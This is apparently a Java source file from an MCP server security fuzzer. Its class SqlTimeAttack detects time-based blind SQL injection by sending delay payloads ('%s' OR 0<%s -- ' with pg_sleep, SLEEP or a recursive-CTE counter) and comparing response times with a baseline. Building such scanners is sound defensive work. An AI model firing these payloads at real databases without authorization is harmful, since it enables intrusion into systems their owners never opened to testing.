package io.mcpsf.interrogate.fuzz;

import io.mcpsf.model.ProtocolObservation.AttackAnswered;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.StringNode;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;

/**
 * Makes a database wait or count, and measures it: the value that asks for nothing comes back at
 * once, the one that asks for a second takes it. For tools that show neither results nor errors.
 */
final class SqlTimeAttack implements MultiStepAttack {

    private static final Set<String> STATEMENTS = Set.of("sql", "statement", "expression", "code");

    /** What takes a tenth of a second for each {@code %d}, in the words of each database. */
    private static final List<String> DELAYS =
            List.of(
                    "(SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1"
                            + " FROM c WHERE x<1+%d*400000) SELECT x FROM c))",
                    "(SELECT 1 FROM pg_sleep(%d*0.1))", "(SELECT 1 FROM (SELECT SLEEP(%d*0.1)) z)");

    /** Where the value stands: in quotes, or as a number. */
    private static final List<String> PLACES = List.of("%s' OR 0<%s -- ", "0 OR 0<%2$s -- ");

    /** Slow enough to be no chance, short enough to be repeated. */
    private static final long SLOW_MILLIS = 500;

    /** What took so long once may take a little less when the machine is quicker. */
    private static final long STILL_SLOW_MILLIS = 250;

    /** Worth a closer look. */
    private static final long NOTICED_MILLIS = 30;

    /** What takes longer than this for a baseline probe was held up by others. */
    private static final long USUAL_MILLIS = 60;

    /** What a probe asks for: it shows even where a baseline probe was held up. */
    private static final int AHEAD = 2;

    private static final int TIMES = 4;
    private static final int TRIES = 3;
    private static final int MOST = 16;

    /** One way to make a database wait, in one place. */
    private record Way(String target, String place, String delay) {}

    private final AttackSender sender;
    private final Sightings sightings;

    /** Those whose probe took long. */
    private final Set<Way> slow = ConcurrentHashMap.newKeySet();

    SqlTimeAttack(AttackSender sender, Sightings sightings) {
        this.sender = sender;
        this.sightings = sightings;
    }

    @Override
    public String family() {
        return "sql-injection";
    }

    @Override
    public boolean suits(AttackTarget target, Traced traced) {
        return target.text()
                && !target.closed()
                && traced.result().answered()
                && traced.result().millis() < 1000
                && traced.paths().isEmpty()
                && !traced.started()
                && !traced.lookedUp()
                && target.words().stream().noneMatch(STATEMENTS::contains);
    }

    @Override
    public List<Probe> probes(AttackTarget target, Traced traced) {
        var probes = new ArrayList<Probe>();
        Mark mark = sender.mark();
        for (String place : PLACES) {
            for (String delay : DELAYS) {
                probes.add(new Probe(value(place, delay, AHEAD, mark), mark));
            }
        }
        return probes;
    }

    @Override
    public boolean promising(Traced traced, AttackResult probe) {
        // Others are at work beside both: what only looks slow is measured again, one by one.
        if (probe.millis() < Math.min(traced.result().millis(), USUAL_MILLIS) + NOTICED_MILLIS) {
            return false;
        }
        for (String place : PLACES) {
            for (String delay : DELAYS) {
                if (value(place, delay, AHEAD, probe.mark()).equals(probe.value())) {
                    slow.add(new Way(probe.target().key(), place, delay));
                }
            }
        }
        return true;
    }

    @Override
    public boolean timed() {
        return true;
    }

    @Override
    public Optional<Hit> run(AttackTarget target, Traced traced) throws InterruptedException {
        for (String place : PLACES) {
            List<String> delays =
                    DELAYS.stream()
                            .filter(delay -> slow.contains(new Way(target.key(), place, delay)))
                            .toList();
            if (delays.isEmpty()) {
                continue;
            }
            Optional<Long> quick = quickest(target, place, delays.getFirst());
            for (String delay : delays) {
                if (quick.isEmpty()) {
                    return Optional.empty();
                }
                Optional<Hit> hit = measured(target, place, delay, quick.get());
                if (hit.isPresent()) {
                    return hit;
                }
            }
        }
        return Optional.empty();
    }

    /** Asks for more until it takes long, then for nothing, then for as much again. */
    private Optional<Hit> measured(AttackTarget target, String place, String delay, long quick)
            throws InterruptedException {
        int tenths = 1;
        Optional<AttackResult> slow = send(target, place, delay, tenths);
        while (slow.filter(f -> noticed(f, quick)).isPresent()
                && !slow(slow.get(), quick, SLOW_MILLIS)
                && tenths < MOST) {
            tenths *= 2;
            slow = send(target, place, delay, tenths);
        }
        if (slow.isEmpty() || !slow(slow.get(), quick, SLOW_MILLIS)) {
            return Optional.empty();
        }
        Optional<Long> none = quickest(target, place, delay);
        if (none.isEmpty() || !slow(slow.get(), none.get(), SLOW_MILLIS)) {
            return Optional.empty();
        }
        Mark mark = sender.mark();
        return sender.alone(target, family(), value(place, delay, tenths, mark), mark)
                .filter(again -> slow(again, none.get(), STILL_SLOW_MILLIS))
                .map(again -> hit(again, none.get()));
    }

    /**
     * How long it takes to do nothing: the best of a few, because others hold it up now and then.
     */
    private Optional<Long> quickest(AttackTarget target, String place, String delay)
            throws InterruptedException {
        Optional<Long> best = Optional.empty();
        for (int i = 0; i < TRIES && best.filter(b -> b < NOTICED_MILLIS).isEmpty(); i++) {
            Optional<AttackResult> none = send(target, place, delay, 0);
            if (none.isEmpty() || !none.get().answered()) {
                return Optional.empty();
            }
            long took = none.get().millis();
            best = Optional.of(Math.min(took, best.orElse(took)));
        }
        return best;
    }

    private static boolean noticed(AttackResult result, long quickMillis) {
        return result.answered() && result.millis() >= quickMillis + NOTICED_MILLIS;
    }

    private Optional<AttackResult> send(AttackTarget target, String place, String delay, int tenths)
            throws InterruptedException {
        Mark mark = sender.mark();
        return sender.sendAndAwait(target, family(), value(place, delay, tenths, mark), mark);
    }

    private Hit hit(AttackResult slow, long quickMillis) {
        return new Hit(
                family(),
                "the injected delay took %d ms, without it %d ms"
                        .formatted(slow.millis(), quickMillis),
                false,
                slow,
                sightings.with(slow.mark().nonce()).stream()
                        .filter(seen -> seen.what() instanceof AttackAnswered)
                        .toList());
    }

    private static boolean slow(AttackResult result, long quickMillis, long slowMillis) {
        return result.answered()
                && result.millis() >= slowMillis
                && result.millis() >= TIMES * quickMillis;
    }

    private static JsonNode value(String place, String delay, int tenths, Mark mark) {
        String waiting = delay.formatted(tenths);
        return StringNode.valueOf(place.formatted(mark.nonce(), waiting));
    }
}
